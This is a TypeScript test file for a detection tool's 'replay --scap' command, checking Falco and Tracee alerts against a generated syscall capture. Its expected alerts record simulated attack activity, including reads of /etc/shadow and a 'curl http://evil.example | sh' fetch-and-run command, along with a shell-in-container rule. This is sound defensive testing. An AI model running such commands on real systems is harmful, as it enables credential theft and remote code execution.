/** `vigil replay --scap`: generated captures through the built-in Falco rules, our own -r rules and the Tracee signatures. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { replay } from '../../src/cli/commands/replay.js';
import type { ArgValue, VigilEvent } from '../../src/events/event.js';
import { eventByName } from '../../src/events/event-table.js';
import { encodeScap } from '../../src/scap/index.js';
import { CONTAINER_CGROUP, generateCapture } from '../scap/generate.js';

const ROOT = join(import.meta.dirname, '../..');
const DIR = mkdtempSync(join(tmpdir(), 'vigil-replay-scap-'));
const SHIM = 300;
const EXEC = 402;
const PTS = 34817;

/** `docker exec -it … bash` after the generated story: the shim starts bash inside the container on a terminal, which writes below /etc. */
function dockerExec(after: bigint): VigilEvent[] {
  let ts = after;
  const ev = (tid: number, name: string, ret: number, args: Record<string, ArgValue>, inContainer: { comm: string }): VigilEvent => {
    ts += 1000n;
    const container = tid === EXEC;
    return {
      id: eventByName(name)!.id, name, ts, cpu: 0, pid: tid, tid, ppid: container ? SHIM : 1, vpid: container ? 20 : tid, vtid: container ? 20 : tid, vppid: container ? 0 : 1,
      uid: 0, gid: 0, loginuid: 0xffffffff, comm: inContainer.comm, tty: container ? PTS : 0, mntns: 0, pidns: 0, cgroupId: 0,
      cgroup: container ? CONTAINER_CGROUP : '/system.slice/containerd.service', ret, args,
    };
  };
  const clone = { flags: 0x1200011, child_tid: EXEC, child_pid: EXEC };
  return [
    ev(SHIM, 'clone', EXEC, clone, { comm: 'containerd-shim' }),
    ev(EXEC, 'clone', 0, clone, { comm: 'containerd-shim' }),
    ev(EXEC, 'execve', 0, { exe: '/bin/bash', args: [], env: ['PATH=/usr/bin:/bin'], cwd: '/', comm: 'bash', filename: '/bin/bash', flags: 0, uid: 0, gid: 0, loginuid: 0xffffffff, tty: PTS, pgid: EXEC }, { comm: 'bash' }),
    ev(EXEC, 'openat', 3, { fd: 3, dirfd: -100, name: '/etc/resolv.conf', flags: 0o1101, mode: 0o644, dev: 2050, ino: 9 }, { comm: 'bash' }),
  ];
}

const { snapshot, events: story } = generateCapture(1);
const events = [...story, ...dockerExec(story.at(-1)!.ts)];
const capture = encodeScap(snapshot, events);
const CAPTURE = join(DIR, 'story.scap');
writeFileSync(CAPTURE, capture);
writeFileSync(join(DIR, 'story.scap.gz'), gzipSync(capture));
// Cut inside the last event block: every event before it is replayed.
const LAST_BLOCK = encodeScap(snapshot, events.slice(0, -1)).length;
const TRUNCATED = join(DIR, 'truncated.scap');
writeFileSync(TRUNCATED, capture.subarray(0, LAST_BLOCK + 10));
const OWN_RULES = join(DIR, 'own.yaml');
writeFileSync(OWN_RULES, `- rule: Shell in container (test)
  desc: a shell started inside a container
  condition: evt.type in (execve, execveat) and evt.rawres = 0 and container.id != host and proc.name in (sh, bash)
  output: Shell in container (user=%user.name uid=%user.uid command=%proc.cmdline parent=%proc.pname container_id=%container.id)
  priority: NOTICE
  tags: [container, shell]
`);

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await replay(args, { out: (t) => { out += t; }, err: (t) => { err += t; }, stdin: Readable.from([]), flush: async () => {} });
  return { code, out, err };
}

const falcoLines = (out: string) => out.split('\n').filter((l) => /^\d\d:\d\d:\d\d\.\d{9}: /.test(l));
const blocks = (out: string) => out.split('*** Detection ***\n').slice(1);

const BUILTIN_ALERTS = [
  '22:13:20.000004000: Warning Sensitive file opened for reading (user=root command=cat /etc/shadow file=/etc/shadow parent=bash container_id=host image=<NA>)',
  '22:13:20.000010000: Error File below /etc opened for writing (user=root command=cat /etc/shadow file=/etc/hosts parent=bash container_id=host image=<NA>)',
  '22:13:20.000070000: Warning Sensitive file opened for reading (user=root command=cat /etc/shadow file=/etc/sudoers parent=systemd container_id=host image=<NA>)',
  '22:13:20.000075000: Notice A shell was spawned in a container with an attached terminal (user=root container_id=c0ffee123456 container_name=<NA> image=<NA>:<NA> shell=bash parent=containerd-shim cmdline=bash terminal=34817)',
  '22:13:20.000076000: Error File below /etc opened for writing (user=root command=bash file=/etc/resolv.conf parent=containerd-shim container_id=c0ffee123456 image=<NA>)',
];

describe('vigil replay --scap', () => {
  it('prints the built-in Falco rules\' alerts and the signatures\' detection blocks, with a summary', async () => {
    const { code, out, err } = await run(['--scap', CAPTURE]);
    assert.equal(code, 0, err);
    assert.deepEqual(falcoLines(out), BUILTIN_ALERTS);
    const found = blocks(out);
    assert.deepEqual(found.map((b) => /Signature ID: (\S+)/.exec(b)![1]), ['TRC-4', 'TRC-6', 'TRC-6', 'TRC-3']);
    for (const b of found) assert.match(b, /\nCommand: cat\nHostname: /);
    assert.match(err, new RegExp(`vigil replay: ${events.length} events, ${BUILTIN_ALERTS.length + found.length} alerts, 0 errors\n$`));
  });

  it('adds -r rule files to the built-in rules; users come from the capture\'s user list', async () => {
    const { code, out, err } = await run(['--scap', CAPTURE, '-r', OWN_RULES]);
    assert.equal(code, 0, err);
    // In event order; on one event, the built-in rules (loaded first) before ours.
    assert.deepEqual(falcoLines(out), [
      ...BUILTIN_ALERTS.slice(0, 2),
      '22:13:20.000066000: Notice Shell in container (user=nginx uid=101 command=sh -c curl http://evil.example | sh parent=nginx container_id=c0ffee123456)',
      ...BUILTIN_ALERTS.slice(2, 4),
      '22:13:20.000075000: Notice Shell in container (user=root uid=0 command=bash parent=containerd-shim container_id=c0ffee123456)',
      BUILTIN_ALERTS[4],
    ]);
  });

  it('reads .scap.gz the same as .scap', async () => {
    const plain = await run(['--scap', CAPTURE]);
    const gz = await run(['--scap', join(DIR, 'story.scap.gz')]);
    assert.equal(gz.code, 0, gz.err);
    assert.equal(gz.out, plain.out);
  });

  it('prints one JSON object per alert with --json', async () => {
    const { code, out } = await run(['--scap', CAPTURE, '--json']);
    assert.equal(code, 0);
    const alerts = out.trim().split('\n').map((l) => JSON.parse(l) as { rule: string; priority: string; source: string; output_fields: Record<string, unknown> });
    assert.equal(alerts.length, 9);
    const falco = alerts.filter((a) => a.source === 'syscall');
    assert.deepEqual(falco.map((a) => a.rule), ['Read sensitive file', 'Write below etc', 'Read sensitive file', 'Terminal shell in container', 'Write below etc']);
    assert.equal(falco[1]!.output_fields['fd.name'], '/etc/hosts');
    assert.equal(falco[1]!.priority, 'Error');
  });

  it('a truncated capture: the earlier alerts are printed, then the byte offset, exit 1', async () => {
    const { code, out, err } = await run(['--scap', TRUNCATED]);
    assert.equal(code, 1);
    assert.deepEqual(falcoLines(out), BUILTIN_ALERTS.slice(0, 4));
    assert.match(err, new RegExp(`error reading capture .*truncated\\.scap: byte offset ${LAST_BLOCK}: truncated`));
    assert.match(err, new RegExp(`${events.length - 1} events, 8 alerts, 1 errors\n$`));
  });

  it('exit 1 for a missing capture and for rules that do not load', async () => {
    const missing = await run(['--scap', join(DIR, 'missing.scap')]);
    assert.equal(missing.code, 1);
    assert.match(missing.err, /byte offset 0: cannot open/);
    const badRules = join(DIR, 'bad.yaml');
    writeFileSync(badRules, '- rule: broken\n  condition: evt.type = \n');
    const bad = await run(['--scap', CAPTURE, '-r', badRules]);
    assert.equal(bad.code, 1);
    assert.match(bad.err, /bad\.yaml:\d+:\d+: error/);
    assert.match(bad.err, /the rules do not load/);
    assert.equal(bad.out, '');
  });

  it('as a process: alerts on stdout, the fault on stderr, exit status 1', () => {
    const result = spawnSync(process.execPath, ['--import', 'tsx', '-e', "import('./src/cli/index.ts').then((m) => m.main(process.argv.slice(1))).then((c) => { process.exitCode = c; })",
      'replay', '--scap', TRUNCATED], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(result.status, 1, result.stderr);
    assert.deepEqual(falcoLines(result.stdout), BUILTIN_ALERTS.slice(0, 4));
    assert.match(result.stderr, new RegExp(`byte offset ${LAST_BLOCK}`));
  });
});
